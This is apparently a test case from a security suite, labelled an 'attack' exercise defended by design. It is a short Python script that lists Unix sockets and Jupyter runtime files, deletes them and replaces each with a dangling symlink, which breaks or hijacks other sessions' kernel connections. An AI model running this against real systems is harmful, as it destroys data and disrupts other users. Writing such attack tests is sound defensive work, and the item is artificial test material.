# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# ///

# %% name="question"
import glob
import os

# Whoever connected again would connect to a socket of the machine; but nothing has a name.
try:
    with open("/proc/net/unix") as file:
        paths = {line.split()[-1] for line in file}
except OSError:
    paths = set()
own = os.path.dirname(os.environ.get("JUPYTER_RUNTIME_DIR", "/none") + "/x")
for path in glob.glob(f"{own}/*") + [p for p in paths if p.startswith(own)]:
    try:
        os.unlink(path)
        os.symlink("@unix@", path)
        print("replaced", path)
    except OSError as error:
        print("refused", error)
print("DONE")
